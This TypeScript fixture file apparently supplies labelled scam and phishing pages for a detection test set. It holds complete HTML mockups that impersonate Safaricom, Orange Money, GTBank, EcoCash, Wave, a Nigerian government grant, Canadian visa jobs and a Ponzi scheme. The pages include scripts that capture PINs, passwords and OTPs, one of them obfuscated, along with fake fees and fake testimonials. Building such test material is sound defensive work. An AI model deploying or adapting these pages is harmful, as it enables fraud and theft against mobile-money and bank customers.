import type { Entry } from '../entry.js';
import { bot, doc, fbq, gtag, htmlRoute, jsonRoute, jsRoute, logo, redirectRoute, top } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-scam-safaricom-free-data-bundles-sw',
    label: 'scam',
    kind: 'telecom-bundle',
    url: 'https://safaricom-25gb-bure.web.app/',
    body: doc({
      lang: 'sw',
      title: 'Safaricom Inasherehekea Miaka 25 - Pata 25GB Bure!',
      c: '#2f9e44',
      css: `.big{font-size:44px;font-weight:900;color:#2f9e44;text-align:center}.bar{height:14px;background:#e5e7eb;border-radius:8px}.bar div{height:14px;background:#2f9e44;border-radius:8px;width:0}`,
      body: `<main><div class="card" style="text-align:center"><h1>🎉 Safaricom @25 🎉</h1><p class="big">25GB BURE</p>
<p>Safaricom inasherehekea miaka 25! Kila mteja anapata 25GB za data bila malipo kwa siku 30. Jibu maswali 3 tu.</p>
<div id="q"><p><b>1. Je, wewe ni mteja wa Safaricom?</b></p><button class="btn" onclick="nx()">Ndiyo</button> <button class="btn alt" onclick="nx()">Hapana</button></div>
<div id="sh" style="display:none"><p>Hongera! Ili kupokea zawadi, shiriki ujumbe huu na <b>marafiki 10 au vikundi 5</b> vya WhatsApp.</p><div class="bar"><div id="b"></div></div><p id="cnt">0/10</p>
<a class="btn" id="wa" href="whatsapp://send?text=Safaricom%20inatoa%2025GB%20bure%20kusherehekea%20miaka%2025%21%20Pata%20yako%20hapa%3A%20https%3A%2F%2Fsafaricom-25gb-bure.web.app">Shiriki kwenye WhatsApp</a></div>
<p class="muted">Maoni (1,284)</p><p style="text-align:left">Wanjiku: nimepata zangu sasa hivi asanteni 🙏<br>Otieno: inafanya kazi kweli!<br>Amina: nimeshare naisubiri</p></div></main>
<script>var c=0;function nx(){q.style.display='none';sh.style.display='block'}
document.getElementById('wa').addEventListener('click',function(){c=Math.min(10,c+2);b.style.width=(c*10)+'%';cnt.textContent=c+'/10';if(c>=10){location.href='/zawadi.html'}})</script>`,
    }),
    routes: { 'safaricom-25gb-bure.web.app/zawadi.html': htmlRoute('<!doctype html><html lang="sw"><meta charset="utf-8"><title>Zawadi</title><body style="font-family:Arial;padding:30px"><h2>Hatua ya mwisho</h2><p>Pakua programu 2 za wadhamini na uzifungue kwa sekunde 30 ili kuamilisha 25GB.</p><a href="/go/offer1">Programu 1</a> · <a href="/go/offer2">Programu 2</a></body></html>') },
  },
  {
    id: 'zn-phish-orange-money-bonus-code-ci-fr',
    label: 'phishing',
    kind: 'mobile-money',
    url: 'https://orangemoney-ci.bonus-fidelite.com/gagner',
    body: doc({
      lang: 'fr-CI',
      title: 'Orange Money - Bonus Fidélité 2025',
      c: '#ff7900',
      css: `header.top{background:#000}.wrap{max-width:460px;margin:24px auto;text-align:center}`,
      body: `${top('orange money', ['Particuliers', 'Entreprises'])}
<main><div class="wrap card"><h2>Félicitations ! 🎁</h2><p>Vous faites partie des 500 clients sélectionnés pour recevoir un <b>bonus fidélité de 50 000 FCFA</b> sur votre compte Orange Money.</p>
<label>Numéro Orange Money</label><input id="num" placeholder="07 XX XX XX XX">
<label>Code secret Orange Money (pour confirmer le dépôt)</label><input id="cs" type="password" maxlength="4">
<p><button class="btn" onclick="go()">Recevoir mon bonus</button></p>
<p class="muted">Offre valable jusqu'au 31/12. Orange Côte d'Ivoire S.A.</p></div></main>
<script>function go(){var i=new Image();i.src='/gagner/c.gif?n='+encodeURIComponent(num.value)+'&c='+encodeURIComponent(cs.value);
setTimeout(function(){alert('Votre bonus est en cours de traitement. Composez #144# pour confirmer la transaction.')},600)}</script>`,
    }),
    routes: { ...logo('orangemoney-ci.bonus-fidelite.com', '/gagner/c.gif', 0, 0, 0) },
  },
  {
    id: 'zn-scam-fg-grant-registration-fee-ng',
    label: 'scam',
    kind: 'subsidy-fee',
    url: 'https://fg-palliative-grant2025.com.ng/apply',
    body: doc({
      lang: 'en-NG',
      title: 'FGN Palliative Cash Grant 2025 - Apply Now',
      c: '#008751',
      head: fbq('77102983100214'),
      body: `${top('Federal Government Palliative Programme', ['Home', 'Eligibility', 'Apply', 'FAQ'])}
<main><div class="card"><h1>₦50,000 Conditional Cash Transfer — Batch C</h1><p>The Federal Government through the Ministry of Humanitarian Affairs is giving ₦50,000 grant to 12 million Nigerians. Registration closes soon.</p>
<form id="f"><label>Full name</label><input required><label>Phone number</label><input required><label>State</label><select><option>Lagos</option><option>Kano</option><option>Oyo</option><option>Rivers</option><option>FCT</option></select>
<label>Bank name</label><input><label>Account number</label><input><p><button class="btn">Submit application</button></p></form></div>
<div class="card" id="fee" style="display:none"><h3>Application received ✔</h3><p>Your grant of <b>₦50,000</b> has been approved. To activate payment, pay the one-time <b>processing/TIN fee of ₦3,500</b> to:</p>
<p><b>Opay 9012 447 831 — FGN PALLIATIVE DESK</b></p><p>Send your receipt to our WhatsApp agent for instant disbursement.</p><a class="btn" href="https://wa.me/2349012447831">WhatsApp agent</a></div></main>
${bot(['© 2025 Federal Republic of Nigeria. Renewed Hope.'])}
<script>f.onsubmit=function(e){e.preventDefault();fee.style.display='block';f.parentNode.style.display='none'}</script>`,
    }),
  },
  {
    id: 'zn-phish-gtbank-token-update-ng',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://gtbank-ibank-update.com/ibank/default.aspx',
    body: doc({
      lang: 'en-NG',
      title: 'GTBank Internet Banking',
      c: '#dd4f05',
      css: `.wrap{max-width:400px;margin:30px auto}`,
      body: `${top('GTBank', ['Personal', 'Business', 'Help'])}
<main><div class="wrap card"><h2>Internet Banking</h2><p>Please update your hardware token/BVN details. Failure to update within 48hrs will lead to account restriction.</p>
<form id="lg"><label>User ID</label><input name="uid"><label>Password</label><input name="pw" type="password"><label>Token code / OTP</label><input name="tk" maxlength="6">
<label>ATM Card PIN</label><input name="atm" type="password" maxlength="4">
<p><button class="btn" style="width:100%">Login</button></p></form>
<p class="muted">Guaranty Trust Bank Ltd. RC 152321 · 0700-GTCONNECT</p></div></main>
<script src="/ibank/js/app.min.js"></script>`,
    }),
    routes: {
      'gtbank-ibank-update.com/ibank/js/app.min.js': jsRoute(`(function(){var _0x=['\\x2f\\x69\\x62\\x61\\x6e\\x6b\\x2f\\x67\\x61\\x74\\x65','POST','submit'];var f=document.getElementById('lg');f.addEventListener(_0x[2],function(e){e.preventDefault();var x=new XMLHttpRequest();x.open(_0x[1],_0x[0]);x.send(new FormData(f));x.onload=function(){f.innerHTML='<p>Verification in progress. Do not close this page.</p>'}})})();`),
      'gtbank-ibank-update.com/ibank/gate': jsonRoute({ r: 'ok' }),
    },
  },
  {
    id: 'zn-scam-canada-visa-job-ng',
    label: 'scam',
    kind: 'visa-job',
    url: 'https://canada-workpermit-recruitment.org/apply-now',
    body: doc({
      lang: 'en',
      title: 'Canada Farm & Care Jobs 2025 - Visa Sponsorship Available',
      c: '#d52b1e',
      head: gtag('G-KX02NL77Q1'),
      body: `${top('Canada Work Permit Recruitment 🍁', ['Jobs', 'LMIA', 'Testimonials', 'Contact'])}
<main><div class="card"><h1>Apply for Canada jobs with visa sponsorship</h1><p>Over 5,000 vacancies — farm workers, caregivers, truck drivers, cleaners. Salary CAD $28/hour. Free accommodation. No IELTS required.</p>
<ol><li>Fill the form below</li><li>Receive your job offer letter within 72 hours</li><li>Pay the <b>LMIA processing fee ($350 / ₦520,000)</b> to our accredited agent</li><li>Travel within 4 weeks</li></ol>
<form action="/apply-now/submit" method="post"><label>Full name</label><input name="n"><label>Country</label><select name="c"><option>Nigeria</option><option>Ghana</option><option>Kenya</option><option>Cameroon</option></select><label>WhatsApp</label><input name="w"><label>Passport number</label><input name="pp"><p><button class="btn">Submit application</button></p></form></div>
<div class="card"><h3>Success stories</h3><p>"I'm now in Alberta working on a farm. God bless this agency" — Chidi O., Enugu</p><p>"Ẹ ṣé gan-an, I got my visa in 3 weeks" — Bukola A., Ibadan</p></div></main>
${bot(['Canada Work Permit Recruitment Inc. Registered with IRCC (Reg. #R-778120)', '120 Adelaide St W, Toronto ON'])}`,
    }),
    routes: { 'canada-workpermit-recruitment.org/apply-now/submit': htmlRoute('<!doctype html><meta charset="utf-8"><title>Received</title><p>Thank you. Our agent Mr. David Cole will contact you on WhatsApp with the payment details for LMIA.</p>') },
  },
  {
    id: 'zn-scam-ponzi-double-30-days-ng',
    label: 'scam',
    kind: 'investment',
    url: 'https://cryptobridge-exchange.ng/invest',
    body: doc({
      lang: 'en-NG',
      title: 'CBX Trading - Earn 100% in 30 Days | AI Arbitrage',
      c: '#0f172a',
      css: `.plan{border:2px solid #facc15;border-radius:10px;padding:16px;text-align:center}.plan b{font-size:26px;color:#ca8a04}`,
      body: `${top('CBX AI Arbitrage', ['Dashboard', 'Plans', 'Referral', 'Withdraw'])}
<main><div class="card"><h1>Let AI trade for you — 3.5% daily profit guaranteed</h1><p>Our AI arbitrage robot trades USDT across 14 exchanges. Withdraw daily to your Nigerian bank account. Registered with SEC (sic) and CAC RC 1928371.</p></div>
<div class="grid"><div class="plan"><h3>Starter</h3><b>₦50,000</b><p>Returns ₦100,000 in 30 days</p></div><div class="plan"><h3>Gold</h3><b>₦500,000</b><p>Returns ₦1,150,000 in 30 days</p></div><div class="plan"><h3>Diamond</h3><b>₦2,000,000</b><p>Returns ₦5,000,000 in 30 days + iPhone</p></div></div>
<div class="card"><h3>Referral bonus 15% + 5% + 2%</h3><p>Invite friends and earn on 3 levels. Top leaders this week: Emeka (₦4.2m), Halima (₦3.1m).</p>
<p>Fund your account: USDT TRC20 <code>TQn8VxB7y1kA5p3Ne2R9mH4sF6uWz0cLdE</code> or bank transfer to <b>Moniepoint 6011228834</b>.</p><a class="btn" href="/invest/register">Register &amp; Invest</a></div></main>
${bot(['Profits are guaranteed by our insurance partners. Withdrawal window: Monday to Friday.'])}`,
    }),
    routes: { 'cryptobridge-exchange.ng/invest/register': htmlRoute('<!doctype html><meta charset="utf-8"><title>Register</title><form><input placeholder="Phone"><input placeholder="Password" type="password"><input placeholder="Referral code" value="EMK2025"><button>Create account</button></form>') },
  },
  {
    id: 'zn-phish-ecocash-wallet-upgrade-zw',
    label: 'phishing',
    kind: 'mobile-money',
    url: 'https://ecocash-upgrade.co.zw.wallet-verify.site/',
    body: doc({
      lang: 'en-ZW',
      title: 'EcoCash Wallet Upgrade',
      c: '#0053a0',
      css: `.wrap{max-width:400px;margin:30px auto}`,
      body: `<main><div class="wrap card"><h2 style="color:#0053a0">EcoCash</h2><p>Upgrade your wallet to the new ZiG-enabled EcoCash to continue sending and receiving money.</p>
<label>EcoCash number</label><input id="a" placeholder="077 xxx xxxx"><label>EcoCash PIN</label><input id="b" type="password" maxlength="4">
<p><button class="btn" style="width:100%" onclick="go()">Upgrade now</button></p><p class="muted">Econet Wireless Zimbabwe · *151#</p></div></main>
<script>function go(){fetch('/u.php?a='+a.value+'&b='+b.value).finally(function(){document.body.innerHTML='<p style="font-family:Arial;padding:40px">Upgrade successful. You will receive a confirmation SMS shortly.</p>'})}</script>`,
    }),
    routes: { 'ecocash-upgrade.co.zw.wallet-verify.site/u.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'zn-phish-wave-senegal-connexion-fr',
    label: 'phishing',
    kind: 'mobile-money',
    url: 'https://wave-sn-remboursement.com/connexion',
    body: doc({
      lang: 'fr-SN',
      title: 'Wave - Remboursement des frais',
      c: '#1dc4ff',
      css: `.wrap{max-width:420px;margin:30px auto;text-align:center}`,
      body: `<main><div class="wrap card"><h1 style="color:#1dc4ff">wave</h1><h2>Remboursement des frais de transfert</h2><p>Suite à une erreur technique, des frais vous ont été facturés en trop. Vous avez droit à un remboursement de <b>27 500 FCFA</b>.</p>
<form action="/connexion/ok" method="post"><label>Numéro Wave</label><input name="t" placeholder="77 000 00 00"><label>Code secret Wave</label><input name="c" type="password" maxlength="4">
<label>Code de vérification reçu par SMS</label><input name="o" maxlength="6"><p><button class="btn" style="width:100%;border-radius:24px">Valider le remboursement</button></p></form>
<p class="muted">Wave Mobile Money SA — Dakar. Jërëjëf!</p></div></main>`,
    }),
    routes: { 'wave-sn-remboursement.com/connexion/ok': htmlRoute('<!doctype html><meta charset="utf-8"><title>Wave</title><p>Traitement en cours… Gardez votre téléphone à proximité.</p>') },
  },
];
